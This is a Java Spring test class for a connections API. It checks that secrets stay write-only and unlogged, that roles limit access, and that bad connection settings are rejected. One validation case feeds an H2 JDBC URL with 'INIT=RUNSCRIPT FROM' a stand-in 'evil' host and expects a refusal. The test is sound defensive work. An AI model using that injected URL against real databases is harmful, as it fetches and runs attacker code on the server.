package dev.tandem.pull;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.http.HttpStatus;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import dev.tandem.ApiFixtures;
import dev.tandem.TandemTest;
import dev.tandem.TestUsers;
import dev.tandem.org.Organisation;
import dev.tandem.org.Role;

@TandemTest
@ExtendWith(OutputCaptureExtension.class)
class ConnectionApiTests {

	static final String SECRET = "s3cret-Pa55word-xyz";

	@Autowired
	MockMvcTester mvc;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	Organisation organisation;

	@Test
	void aSecretIsWriteOnlyEncryptedAtRestAndNeverLoggedOrAudited(CapturedOutput output) {
		var fixtures = new PullFixtures(mvc);
		var api = fixtures.api();
		var name = TestUsers.unique("conn");
		var created = api.post("/api/connections", """
				{"name":"%s","kind":"PROMETHEUS","url":"http://127.0.0.1:1","secret":"%s"}""".formatted(name, SECRET))
			.exchange();
		assertThat(created).hasStatus(HttpStatus.CREATED);
		assertThat(ApiFixtures.body(created)).doesNotContain(SECRET).contains("\"hasSecret\":true");
		var id = ApiFixtures.id(created);

		var stored = jdbc.sql("select secret from pull_connection where id = ?").param(id).query(String.class).single();
		assertThat(stored).isNotBlank().doesNotContain(SECRET);

		// an update without a secret keeps it; the list and the test answer never show it
		var updated = api.put("/api/connections/" + id, """
				{"name":"%s","kind":"PROMETHEUS","url":"http://127.0.0.1:2"}""".formatted(name)).exchange();
		assertThat(updated).hasStatus(HttpStatus.OK);
		assertThat(ApiFixtures.body(updated)).contains("\"hasSecret\":true").contains("127.0.0.1:2");
		assertThat(jdbc.sql("select secret from pull_connection where id = ?").param(id).query(String.class).single())
			.isEqualTo(stored);
		var list = api.get("/api/connections").exchange();
		assertThat(ApiFixtures.body(list)).contains(name).doesNotContain(SECRET);
		var tested = api.post("/api/connections/" + id + "/test", "").exchange();
		assertThat(tested).hasStatus(HttpStatus.OK);
		assertThat(ApiFixtures.body(tested)).contains("\"ok\":false").doesNotContain(SECRET);

		var audited = jdbc.sql("select coalesce(before_state, '') || coalesce(after_state, '') || summary from audit_event "
				+ "where subject = ?").param(name).query(String.class).list();
		assertThat(audited).hasSize(2).allSatisfy(text -> assertThat(text).doesNotContain(SECRET).contains(name));

		// an empty secret removes it
		var cleared = api.put("/api/connections/" + id, """
				{"name":"%s","kind":"PROMETHEUS","url":"http://127.0.0.1:2","secret":""}""".formatted(name)).exchange();
		assertThat(ApiFixtures.body(cleared)).contains("\"hasSecret\":false");
		assertThat(output.getAll()).doesNotContain(SECRET);
	}

	@Test
	void onlyAdministratorsManageConnectionsAndEditorsMayListThem() {
		var team = TestUsers.team(organisation);
		var editor = TestUsers.person(organisation, Role.EDITOR, team);
		var member = TestUsers.person(organisation, Role.MEMBER, team);
		var body = """
				{"name":"%s","kind":"HTTP_JSON","url":"http://127.0.0.1:1"}""".formatted(TestUsers.unique("conn"));
		assertThat(mvc.post().uri("/api/connections").with(TestUsers.as(editor))
			.contentType("application/json").content(body)).hasStatus(HttpStatus.FORBIDDEN);
		assertThat(mvc.get().uri("/api/connections").with(TestUsers.as(editor))).hasStatus(HttpStatus.OK);
		assertThat(mvc.get().uri("/api/connections").with(TestUsers.as(member))).hasStatus(HttpStatus.FORBIDDEN);
	}

	@Test
	void badConnectionsAreRefusedWithWhatToFix() {
		var api = new ApiFixtures(mvc);
		assertRefused(api, "{\"name\":\"x1\",\"kind\":\"SQL\",\"url\":\"http://example.com\"}", "JDBC URL");
		assertRefused(api, "{\"name\":\"x2\",\"kind\":\"SQL\",\"url\":\"jdbc:nosuchdb://h/db\"}", "no JDBC driver");
		assertRefused(api, "{\"name\":\"x3\",\"kind\":\"PROMETHEUS\",\"url\":\"jdbc:h2:mem:x\"}", "http or https URL");
		assertRefused(api, "{\"name\":\"x4\",\"kind\":\"PROMETHEUS\",\"url\":\"http://h\",\"headers\":{\"X-A\":\"1\"}}",
				"only an HTTP_JSON connection sends headers");
		assertRefused(api, "{\"name\":\"x5\",\"kind\":\"HTTP_JSON\",\"url\":\"http://h\",\"secretHeader\":\"X-Key\"}",
				"the secret header's value is required");
		assertRefused(api, "{\"name\":\"x6\",\"kind\":\"SQL\",\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"}",
				"could run code");
		assertRefused(api, "{\"kind\":\"SQL\",\"url\":\"jdbc:h2:mem:x\"}", "name");
		var taken = new PullFixtures(mvc).connection("\"kind\":\"HTTP_JSON\",\"url\":\"http://127.0.0.1:1\"");
		assertRefused(api, "{\"name\":\"%s\",\"kind\":\"HTTP_JSON\",\"url\":\"http://h\"}".formatted(taken[1]),
				"exists already");
	}

	@Test
	void aConnectionInUseCannotBeDeleted() {
		var fixtures = new PullFixtures(mvc);
		var connection = fixtures.connection("\"kind\":\"SQL\",\"url\":\"" + PullFixtures.sourceDatabase() + "\"");
		var key = fixtures.pullKpi("{\"connection\":\"%s\",\"query\":\"select 99.5 as value\"}".formatted(connection[1]));
		var refused = mvc.delete().uri("/api/connections/" + connection[0]).with(TestUsers.admin()).exchange();
		assertThat(refused).hasStatus(HttpStatus.CONFLICT);
		assertThat(ApiFixtures.body(refused)).contains(key);

		assertThat(mvc.delete().uri("/api/kpis/" + key).with(TestUsers.admin())).hasStatus(HttpStatus.NO_CONTENT);
		assertThat(mvc.delete().uri("/api/connections/" + connection[0]).with(TestUsers.admin()))
			.hasStatus(HttpStatus.NO_CONTENT);
		assertThat(mvc.get().uri("/api/connections/" + connection[0]).with(TestUsers.admin()))
			.hasStatus(HttpStatus.NOT_FOUND);
	}

	@Test
	void testingASqlConnectionConnects() {
		var fixtures = new PullFixtures(mvc);
		var connection = fixtures.connection("\"kind\":\"SQL\",\"url\":\"" + PullFixtures.sourceDatabase()
				+ "\",\"username\":\"sa\",\"secret\":\"\"");
		var tested = fixtures.api().post("/api/connections/" + connection[0] + "/test", "").exchange();
		assertThat(ApiFixtures.body(tested)).contains("\"ok\":true").contains("H2");
	}

	private static void assertRefused(ApiFixtures api, String json, String message) {
		var result = api.post("/api/connections", json).exchange();
		assertThat(result.getResponse().getStatus()).as(ApiFixtures.body(result)).isBetween(400, 422);
		assertThat(ApiFixtures.body(result)).contains(message);
	}
}
